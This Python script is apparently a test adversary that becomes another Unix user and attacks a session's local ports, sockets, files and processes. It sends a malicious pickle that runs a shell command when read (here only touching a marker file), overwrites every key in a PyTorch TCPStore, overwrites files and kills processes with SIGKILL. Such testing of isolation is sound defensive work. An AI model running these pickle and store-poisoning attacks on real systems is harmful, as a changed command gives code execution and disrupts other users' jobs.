"""A program of another Unix user that attacks a session until the session ends.

Run as root, `python attacker.py UID MARKER` becomes that user. Each line of its standard input is a JSON object with
the present targets: `ports` on loopback that processes of the session listen on, `sockets` (paths of Unix sockets),
`files` and `pids`. At the end of its standard input it prints a JSON object: how often each attempt had which result.
"""

from __future__ import annotations

import contextlib
import encodings.idna  # noqa: F401  # the user may not read the library: import all of it as root
import json
import os
import pickle
import random
import select
import signal
import socket
import struct
import sys
import threading
import time
from collections import Counter
from datetime import timedelta
from typing import Any

from torch.distributed import TCPStore  # type: ignore[attr-defined]  # exported at run time

_CONNECT_S = 0.5
_KEY = "default_pg/0//cpu//0/0"  # gloo reads an address from such a key
_HELD = 20  # connections that stay open and send nothing
_STORE_MAGIC = struct.pack("<BI", 0, 0x3C85F7CE)  # first bytes of a TCPStore client


class _Plant:
    """A pickle that makes a file when it is read."""

    def __init__(self, marker: str) -> None:
        self._marker = marker

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, (f"touch {self._marker}",)


def _messages(marker: str) -> list[bytes]:
    """Return messages that another user may send to a port with an unknown protocol."""
    plant = pickle.dumps(_Plant(marker))
    key = _KEY.encode()
    set_key = b"\x01" + struct.pack("<Q", len(key)) + key + struct.pack("<Q", len(plant)) + plant
    return [
        b"",
        b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n",
        b"\xff\x00\x00\x00\x00\x00\x00\x00\x01\x7f\x03\x00NULL" + bytes(48),  # ZMTP 3 without authentication
        struct.pack("<Q", len(plant)) + plant,
        struct.pack(">I", len(plant)) + plant,
        struct.pack("<Q", 2**62),
        _STORE_MAGIC + set_key,
        struct.pack("<q", 0),  # gloo: the number of a pair
        struct.pack("<q", 7),
        random.randbytes(4096),
    ]


def _attack_port(port: int, message: bytes, held: list[socket.socket]) -> str:
    try:
        stream = socket.create_connection(("127.0.0.1", port), _CONNECT_S)
    except OSError:
        return "port refused"
    try:
        stream.sendall(message)
        stream.settimeout(0.05)
        with contextlib.suppress(OSError):
            stream.recv(4096)
    except OSError:
        pass
    if not message and len(held) < _HELD:
        held.append(stream)
    else:
        stream.close()
    return "port connected"


def _attack_store(port: int, plant: bytes) -> str:
    """Read and replace every key, if a TCPStore answers.

    The store for the user's programs does. It contains nothing of the session, only the key of an earlier attack.
    """
    try:
        store = TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=1), wait_for_workers=False)
        keys = set(store.list_keys()) - {_KEY}
        for key in keys:
            store.set(key, plant)  # type: ignore[arg-type]  # bytes too
        store.set(_KEY, plant)  # type: ignore[arg-type]
        return "store keys replaced" if keys else "store key set"
    except Exception:  # torch raises several kinds, and the target may end at any time
        return "store refused"


def _attack_socket(path: str) -> str:
    with socket.socket(socket.AF_UNIX) as stream:
        stream.settimeout(_CONNECT_S)
        try:
            stream.connect(path)
            stream.sendall(b'{"want": "stop"}\n')
            return "socket answered" if stream.recv(100) else "socket closed"
        except OSError:
            return "socket refused"


def _attack_file(path: str) -> str:
    try:
        with open(path, "r+b") as file:
            file.write(b"spoiled")
        return "file written"
    except OSError:
        return "file refused"


def _attack_process(pid: int) -> str:
    try:
        os.kill(pid, signal.SIGKILL)
        return "process killed"
    except OSError:
        return "process refused"


def _attack_stores(targets: dict[str, list[Any]], ended: threading.Event, plant: bytes, tried: Counter[str]) -> None:
    while not ended.is_set():
        for port in list(targets["ports"]):
            tried[_attack_store(port, plant)] += 1
        ended.wait(1.0)


def main(uid: int, marker: str) -> None:
    """Attack until the standard input ends."""
    os.setgroups([])
    os.setgid(uid)
    os.setuid(uid)
    os.environ["HOME"] = "/"
    tried: Counter[str] = Counter()
    targets: dict[str, list[Any]] = {"ports": [], "sockets": [], "files": [], "pids": []}
    messages, plant = _messages(marker), pickle.dumps(_Plant(marker))
    held: list[socket.socket] = []
    ended = threading.Event()
    threading.Thread(target=_attack_stores, args=(targets, ended, plant, tried), daemon=True).start()
    buffer = b""
    while True:
        while select.select([0], [], [], 0.1)[0]:
            if not (piece := os.read(0, 65536)):
                ended.set()
                print(json.dumps(tried), flush=True)
                os._exit(0)
            buffer += piece
        *lines, buffer = buffer.split(b"\n")
        if lines:
            targets.update(json.loads(lines[-1]))
            for stream in held:
                stream.close()
            held.clear()
        for port in targets["ports"]:
            tried[_attack_port(port, random.choice(messages), held)] += 1
        for path in targets["sockets"]:
            tried[_attack_socket(path)] += 1
        for path in targets["files"]:
            tried[_attack_file(path)] += 1
        for pid in targets["pids"]:
            tried[_attack_process(pid)] += 1
        time.sleep(0.1)


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2])
